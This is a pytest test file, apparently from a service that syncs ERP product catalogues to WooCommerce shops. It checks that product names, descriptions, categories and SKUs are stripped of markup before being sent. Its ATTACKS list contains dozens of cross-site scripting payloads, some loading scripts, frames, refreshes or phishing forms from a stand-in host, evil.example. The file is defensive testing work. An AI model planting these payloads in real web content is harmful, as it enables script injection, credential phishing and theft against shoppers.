"""Attack: put scripts into a shop through the ERP's catalogue."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any
from uuid import UUID, uuid4

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from psycopg import Connection

from app.http.scopes import grant_of
from app.settings.environment import Settings
from app.usecases.stores import CreatedStore, Origin, add_token
from schemas.records.erp import ErpCategory, ErpProduct
from tests.conftest import Database, Servers
from tests.fakes.woocommerce import FakeWooCommerce
from tests.support.application import application
from tests.support.outbound import SECRET_KEY, ask, make_erp_product, push, put_categories, put_products
from tests.support.pipeline import bearer
from workers.core.runtime import Runtime
from workers.outbound.planning.field_groups import hash_category, hash_groups
from workers.outbound.planning.mapper import to_woocommerce_product

ALLOWED_TAGS = set(
    "a abbr b blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i"
    " img ins kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead tr u ul var".split()
)
ATTACKS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=steal()>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    '<a href="javascript:steal()">x</a>',
    '<a href="JaVaScRiPt&colon;steal()">x</a>',
    '<a href="java\tscript:steal()">x</a>',
    '<a href="data:text/html,<script>steal()</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src=x>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example)">x</div>',
    "<style>*{display:none}</style>",
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<!--><script>steal()</script-->",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<b onmouseover=steal()>x</b>",
    "<p id=cart name=cart>x</p>",
    "<details open ontoggle=steal()>x</details>",
    "<<script>script>steal()<</script>/script>",
    "<scr\x00ipt>steal()</script>",
    "<a href='vbscript:steal()'>x</a>",
    "<xmp><script>steal()</script></xmp>",
    "<template><script>steal()</script></template>",
]
PIECES = [
    *ATTACKS,
    "<",
    ">",
    "</",
    "/>",
    "<!--",
    "-->",
    "&lt;",
    "&gt;",
    "&amp;",
    "&quot;",
    '"',
    "'",
    "=",
    "script",
    " on",
]
PIECES += ["error=steal()", "<p>", "</p>", "<b>", "style", "<style>", "</style>", "<svg>", "<![CDATA[", "]]>", "a", " "]
HOSTILE = st.lists(st.sampled_from(PIECES), max_size=8).map("".join)


@pytest.fixture(scope="module")
def app(settings: Settings, database: Database, servers: Servers) -> Iterator[Flask]:
    """The application that can read credentials."""
    with application(replace(settings, secret_key=SECRET_KEY), database.url, servers.redis.url) as made:
        yield made


class Markup(HTMLParser):
    """Every tag and attribute of a text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag


def make_product(**overrides: Any) -> ErpProduct:
    product = ErpProduct(
        product_id=UUID(int=1),
        sku="BW-1",
        name="Lamp",
        description="A lamp.",
        regular_price=None,
        sale_price=None,
        sale_from=None,
        sale_to=None,
        manage_stock=False,
        stock_quantity=None,
        image_urls=(),
        category_ids=(),
        allow_manual_woocommerce_offers=False,
        version=None,
    )
    return replace(product, **overrides)


def described(text: str) -> str:
    """What would be sent of a description."""
    return str(to_woocommerce_product(make_product(description=text), {})["description"])


def named(text: str) -> str:
    """What would be sent of a name."""
    return str(to_woocommerce_product(make_product(name=text), {})["name"])


def assert_harmless(html: str) -> None:
    found = Markup(html)
    assert set(found.tags) <= ALLOWED_TAGS
    for name, value in found.attributes:
        assert not name.startswith("on") and name not in ("style", "id", "name", "srcdoc", "srcset"), name
        if name in ("href", "src"):
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value.lower()))
            assert scheme is None or scheme[1] in ("http", "https", "mailto", "tel"), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_in_a_description_is_sent(attack: str) -> None:
    assert_harmless(described(f"<p>A lamp.</p>{attack}"))
    assert "steal()</script>" not in described(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_name_is_sent_without_markup(attack: str) -> None:
    assert Markup(named(f"Lamp {attack}")).tags == []


@given(HOSTILE)
def test_no_mix_of_markup_is_sent(text: str) -> None:
    assert_harmless(described(text))
    assert Markup(named(text)).tags == []
    assert re.search(r"<[A-Za-z/!?]", named(text)) is None


@given(HOSTILE)
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    """What the shop has after one push is what the next one compares with."""
    assert described(described(text)) == described(text)
    assert named(named(text)) == named(text)


@pytest.mark.parametrize(
    "text",
    [
        "A lamp for 5 > 3 rooms & more; 10 % off",
        '<p>A <strong>lamp</strong>.</p>\n<ul>\n<li>red</li>\n<li class="x">blue</li>\n</ul>',
        '<table><tbody><tr><td colspan="2">40 W</td></tr></tbody></table>',
        '<a href="https://shop.example/?a=1&amp;b=2" title="x">more</a> <img src="https://shop.example/a.png" alt="">',
        '<a href="mailto:j">write</a> <a href="tel:+4930">call</a> <a href="/terms">terms</a>',
        "<h2>Größe</h2><p>10&nbsp;cm × 20 cm<br>wide</p>",
    ],
)
def test_a_usual_description_is_sent_as_it_is(text: str) -> None:
    assert described(text) == text


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("AT&T lamp, 5 < 6", "AT&T lamp, 5 < 6"),
        ("<b>Blue</b> lamp &amp; shade", "Blue lamp & shade"),
        ("Lamp &lt;new&gt;", "Lamp &lt;new&gt;"),
        ("Lamp <!-- internal --> 2", "Lamp  2"),
        ("A<B", "A"),
        ("Lamp <b>&lt;script&gt;steal()&lt;/script&gt;</b>", "Lamp &lt;script&gt;steal()&lt;/script&gt;"),
    ],
)
def test_a_name_keeps_its_words(text: str, sent: str) -> None:
    assert named(text) == sent


def test_a_description_of_tags_alone_is_not_parsed() -> None:
    """Nested so deep, it would keep the parser busy for seconds, a product."""
    assert Markup(described("<div>" * 40_000)).tags == []
    assert described("<b>x</b>" * 4000) == "<b>x</b>" * 4000


def test_a_name_of_markup_alone_becomes_the_sku() -> None:
    """WooCommerce shows a product without a name as its number."""
    assert named("<script>steal()</script>") == "BW-1"


def test_what_is_compared_is_what_is_sent() -> None:
    """A product that was sent with its markup has another hash now, so that the ERP's next record of it is sent."""
    dirty = make_product(description="<p>x</p><script>steal()</script>", name="<b>Lamp</b>")
    clean = make_product(description="<p>x</p>", name="Lamp")
    assert hash_groups(dirty) == hash_groups(clean)
    category = ErpCategory(UUID(int=2), "<i>Lamps</i>", None, None)
    assert hash_category(category) == hash_category(replace(category, name="Lamps"))


def test_a_sku_with_markup_is_refused(client: FlaskClient, runtime: Runtime, store_id: UUID) -> None:
    """WooCommerce would strip it, and the product would never be found by it."""
    taken = put_products(runtime, store_id, [make_erp_product(sku="<img src=x onerror=steal()>")])
    assert [(problem.field, problem.code) for one in taken.refused for problem in one.problems] == [
        ("sku", "not_a_sku")
    ]


def test_a_script_never_reaches_the_shop(
    pushing: Runtime, connected_shop: FakeWooCommerce, store_id: UUID, root_conn: Connection
) -> None:
    category = str(uuid4())
    product = make_erp_product(
        name="<script>steal()</script>Lamp",
        description="<p>A lamp.</p><script>steal()</script>",
        category_ids=[category],
    )
    put_categories(pushing, store_id, [{"category_id": category, "name": "Lamps<svg onload=steal()>"}])
    put_products(pushing, store_id, [product])
    push(pushing, store_id)
    (theirs,) = connected_shop.state.products.values()
    assert (theirs["name"], theirs["description"].strip()) == ("Lamp", "<p>A lamp.</p>")
    assert "svg" not in repr(connected_shop.state.categories)
    ask(pushing, store_id, product["product_id"], "product", force=True)
    push(pushing, store_id)
    assert "steal" not in repr(connected_shop.state.products)


def test_a_stored_script_is_cleaned_on_its_way_out(
    pushing: Runtime, connected_shop: FakeWooCommerce, store_id: UUID, root_conn: Connection
) -> None:
    """A product that an earlier release took in."""
    product = make_erp_product()
    put_products(pushing, store_id, [product])
    root_conn.execute(
        "UPDATE erp_products SET description = '<p>x</p><script>steal()</script>' WHERE store_id = %s", (store_id,)
    )
    push(pushing, store_id)
    (theirs,) = connected_shop.state.products.values()
    assert theirs["description"].strip() == "<p>x</p>"


def test_the_dry_run_shows_what_is_removed(
    client: FlaskClient, conn: Connection, pushing: Runtime, connected_shop: FakeWooCommerce, store: CreatedStore
) -> None:
    token = add_token(conn, store.store_id, grant_of("erp", ()), Origin("test"))
    product = make_erp_product(
        name="<b>Lamp</b>",
        description='<p onclick="steal()">x</p><script>steal()</script><a href="javascript:steal()">y</a><!-- z -->',
    )
    put_products(pushing, store.store_id, [product])
    url = f"/api/v1/woocommerce/sync/product/{product['product_id']}?dry_run=true"
    answer = client.post(url, headers=bearer(str(token)))
    [change] = (answer.json or {})["data"]["changes"]
    assert change["removed"] == [
        {"field": "name", "parts": ["<b>"]},
        {"field": "description", "parts": ["<script>", "comments", "href of <a>", "onclick of <p>"]},
    ]
    sent = {one["field"]: one["erp"] for one in change["differences"]}
    assert (sent["name"], sent["description"]) == ("Lamp", "<p>x</p><a>y</a>")
